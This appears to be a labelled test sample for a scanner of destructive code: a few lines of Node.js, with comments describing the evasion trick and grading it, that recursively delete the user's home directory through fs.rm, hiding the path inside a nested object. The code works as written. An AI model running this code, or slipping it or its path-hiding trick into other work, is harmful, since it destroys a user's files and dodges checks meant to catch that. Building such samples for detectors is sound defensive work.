// evasion: the home directory nested two levels deep in an object literal (state.dirs.home), removed with the callback fs.rm
// grade: medium; does: delete
const fs = require('fs'); const os = require('os');
const state = { dirs: { home: os.homedir() } };
fs.rm(state.dirs.home, { recursive: true }, () => {});
